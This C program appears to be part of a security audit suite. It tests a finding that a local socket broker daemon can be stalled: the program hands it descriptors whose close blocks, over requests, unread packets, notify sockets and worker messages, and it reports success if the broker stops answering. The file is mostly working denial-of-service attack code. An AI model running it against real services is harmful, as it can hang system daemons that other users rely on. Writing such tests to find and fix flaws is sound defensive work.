/*
 * Finding 3. A descriptor whose close waits is handed to the daemon, on every way in, and no other process keeps it: the
 * daemon has the last reference.
 *   lingering-descriptor BROKER broker METHOD           on a request
 *   lingering-descriptor BROKER unread                   on many packets of a connection that is closed before they are read
 *   lingering-descriptor BROKER crowd                    on connections beyond those that a user may have
 *   lingering-descriptor BROKER put-forged               253 of them on one put
 *   lingering-descriptor BROKER listener PATH            to a UNIX listener, by a client that no worker accepts
 *   lingering-descriptor BROKER notify PATH              on messages of the worker's user that is not the worker
 *   lingering-descriptor BROKER worker ORDERS SELF WHAT  on messages of the worker: plain, fdstore, barrier, remove, many, burst, exit
 *   lingering-descriptor - send WHAT                     the worker's part: descriptors from 4 on are what is sent, at the end of 3
 */
#include "attack.h"

#define PEERS 16

static int peers[PEERS], handed[PEERS];

static void drop(const int *fds, int count)
{
    for (int i = 0; i < count; i++)
        close(fds[i]);
}

/*
 * Gives the daemon something to do for a moment. Who sends exits right afterwards, which closes without waiting, and the
 * daemon is to come later: then its reference is the last one.
 */
static void keep_busy(const char *broker)
{
    for (int i = 0; i < 40; i++) {
        int fd = dial(broker, SOCK_SEQPACKET | SOCK_NONBLOCK);
        for (int j = 0; fd >= 0 && j < 8; j++)
            send_with(fd, "{\"method\":\"list\"}", 17, NULL, 0, MSG_DONTWAIT);
    }
}

static void wait_for_end(int fd)
{
    char byte;
    while (read(fd, &byte, 1) > 0)
        ;
}

/* The worker's part. */
static int send_from_worker(const char *what)
{
    int fds[PEERS], many[MOST_DESCRIPTORS], count = 0;
    while (count < PEERS && fcntl(4 + count, F_GETFD) >= 0) {
        fds[count] = 4 + count;
        count++;
    }
    if (count == 0)
        errno = 0, broken("no descriptor to send");
    wait_for_end(3);
    const char *path = notify_path();
    keep_busy(getenv("LISTEND_BROKER"));
    int done = 0;
    if (strcmp(what, "plain") == 0) {
        done = notify_at(path, "STATUS=plain", fds, count, 0);
    } else if (strcmp(what, "fdstore") == 0) {
        /* Stored; refused for its name; and as the descriptors of a slot that are too many. */
        done = notify_at(path, "FDSTORE=1\nFDNAME=kept", fds, 1, 0);
        done |= notify_at(path, "FDSTORE=1\nFDNAME=\x01:", fds + 1, 1, 0);
        for (int i = 0; i < MOST_DESCRIPTORS; i++)
            many[i] = fds[2 + i % (count - 2)];
        for (int i = 0; i < 10; i++)
            done |= notify_at(path, "FDSTORE=1\nFDNAME=kept", many, MOST_DESCRIPTORS, 0);
    } else if (strcmp(what, "barrier") == 0) {
        for (int i = 0; i < count; i++)
            done |= notify_at(path, "BARRIER=1", fds + i, 1, 0);
    } else if (strcmp(what, "remove") == 0) {
        done = notify_at(path, "FDSTORE=1\nFDPOLL=0\nFDNAME=removed", fds, count, 0);
        done |= notify_at(path, "FDSTOREREMOVE=1\nFDNAME=removed", NULL, 0, 0);
    } else if (strcmp(what, "many") == 0) {
        for (int i = 0; i < MOST_DESCRIPTORS; i++)
            many[i] = fds[i % count];
        done = notify_at(path, "FDSTORE=1\nFDNAME=many", many, MOST_DESCRIPTORS, 0);
        done |= notify_at(path, "X=many", many, MOST_DESCRIPTORS, 0);
    } else if (strcmp(what, "burst") == 0) {
        for (int i = 0; i < 200 && done == 0; i++)
            done |= notify_at(path, i % 2 ? "BARRIER=1" : "no message", fds + i % count, 1, 0);
    } else if (strcmp(what, "exit") == 0) {
        /* What lies unread when the worker is gone is closed with its socket. */
        int worker = parent_of(getppid());
        for (int i = 0; i < 4; i++)
            if (fork() == 0) {
                while (notify_at(path, "X=unread", fds, count, 0) == 0)
                    ;
                _exit(0);
            }
        for (int i = 0; i < 20 && done == 0; i++)
            done = notify_at(path, "X=unread", fds, count, 0);
        kill(worker, SIGKILL);
    } else
        errno = EINVAL, broken("%s", what);
    if (done != 0 && errno != EAGAIN)
        broken("notify %s", what);
    return FAILED;
}

/* Hands the descriptors over. */
static void hand_over(char **argv)
{
    static const char list[] = "{\"method\":\"list\"}";
    const char *broker = argv[1], *how = argv[2];
    if (strcmp(how, "crowd") != 0 && strcmp(how, "worker") != 0)
        keep_busy(broker);
    if (strcmp(how, "broker") == 0) {
        char request[256];
        snprintf(request, sizeof request, "{\"method\":\"%s\",\"name\":\"x\",\"listeners\":[\"web\"]}", argv[3]);
        for (int i = 0; i < PEERS; i++) {
            int fd = dial(broker, SOCK_SEQPACKET);
            /* EPERM: the socket has SO_PASSRIGHTS = 0 (socket(7), Linux 6.16), and the kernel refuses the descriptor. */
            if (fd < 0 || (send_with(fd, request, strlen(request), handed + i, 1, 0) != 0 && errno != EPERM))
                broken("the broker");
        }
    } else if (strcmp(how, "unread") == 0) {
        for (int i = 0; i < PEERS; i++) {
            int fd = dial(broker, SOCK_SEQPACKET);
            if (fd < 0)
                broken("the broker");
            for (int j = 0; j < 20; j++)
                send_with(fd, list, sizeof list - 1, handed + i, 1, MSG_DONTWAIT);
        }
    } else if (strcmp(how, "crowd") == 0) {
        keep_busy(broker);
        keep_busy(broker);
        for (int i = 0; i < PEERS; i++) {
            int fd = dial(broker, SOCK_SEQPACKET);
            for (int j = 0; fd >= 0 && j < 5; j++)
                send_with(fd, list, sizeof list - 1, handed + i, 1, MSG_DONTWAIT);
        }
    } else if (strcmp(how, "put-forged") == 0) {
        int many[MOST_DESCRIPTORS], fd = dial(broker, SOCK_SEQPACKET);
        for (int i = 0; i < MOST_DESCRIPTORS; i++)
            many[i] = handed[i % PEERS];
        if (fd < 0)
            broken("the broker");
        send_with(fd, "{\"method\":\"put\",\"name\":\"x\"}", 27, many, MOST_DESCRIPTORS, 0);
        send_with(fd, "no request", 10, many, MOST_DESCRIPTORS, 0);
    } else if (strcmp(how, "listener") == 0) {
        int fd = dial(argv[3], SOCK_STREAM);
        if (fd < 0 || send_with(fd, "x", 1, handed, PEERS, 0) < 0)
            broken("%s", argv[3]);
        drop(handed, PEERS);
        close(fd);
        /* The other ends stay open while the daemon closes its listener. */
        if (fork() == 0) {
            for (int other = 0; other < 1024; other++) {
                int is_peer = 0;
                for (int i = 0; i < PEERS; i++)
                    is_peer |= peers[i] == other;
                if (!is_peer)
                    close(other);
            }
            sleep(6);
            _exit(0);
        }
    } else if (strcmp(how, "notify") == 0) {
        for (int i = 0; i < PEERS; i++) {
            if (notify_at(argv[3], i % 2 ? "FDSTORE=1" : "READY=1", handed + i, 1, 0) != 0 && errno != EPERM && errno != EAGAIN)
                broken("%s", argv[3]);
        }
    } else if (strcmp(how, "worker") == 0) {
        char *words[] = { argv[4], "-", "send", argv[5], NULL };
        int fds[4 + PEERS] = { 0, 1, 2 }, start[2];
        if (pipe2(start, O_CLOEXEC) != 0)
            broken("pipe");
        fds[3] = start[0];
        memcpy(fds + 4, handed, sizeof handed);
        int told = order_begin(argv[3], words, fds, 4 + PEERS);
        drop(handed, PEERS);
        close(start[1]);
        int status = order_end(told);
        if (status >= 0 && status != FAILED && status != 128 + SIGKILL)
            errno = 0, broken("the worker's part: exit status %d", status);
    } else
        errno = EINVAL, broken("%s", how);
}

int main(int argc, char **argv)
{
    int start[2], done[2];
    if (argc < 3)
        errno = EINVAL, broken("lingering-descriptor BROKER HOW...");
    if (strcmp(argv[2], "send") == 0)
        return send_from_worker(argv[3]);
    if (pipe2(start, O_CLOEXEC) != 0 || pipe2(done, O_CLOEXEC) != 0)
        broken("pipe");
    for (int i = 0; i < PEERS; i++)
        handed[i] = lingering(&peers[i]);
    int sender = fork();
    if (sender == 0) {
        close(start[1]);
        wait_for_end(start[0]);
        hand_over(argv);
        _exit(0);
    }
    drop(handed, PEERS);
    close(start[1]);
    close(done[1]);
    struct pollfd waits = { done[0], POLLIN, 0 };
    int status = 0, handed_over = poll(&waits, 1, 5000) == 1;
    if (handed_over && waitpid(sender, &status, 0) == sender && status != 0)
        errno = 0, broken("%s: nothing was handed over", argv[2]);
    /* Where not all could be handed over within 5 s, the daemon has stopped reading, or it never answers again. */
    long long took = ask_broker(argv[1], 1000);
    for (long long end = now_ms() + 500; took >= 0 && now_ms() < end; took = ask_broker(argv[1], 1000)) {
        struct timespec pause = { 0, 20000000 };
        nanosleep(&pause, NULL);
    }
    if (!handed_over) {
        kill(sender, SIGKILL);
        waitpid(sender, NULL, 0);
    }
    if (took < 0)
        succeeded("%s: the broker did not answer within 1 s", argv[2]);
    if (!handed_over)
        errno = 0, broken("%s: the descriptors could not be handed over within 5 s", argv[2]);
    failed("%s: the daemon answered throughout", argv[2]);
}
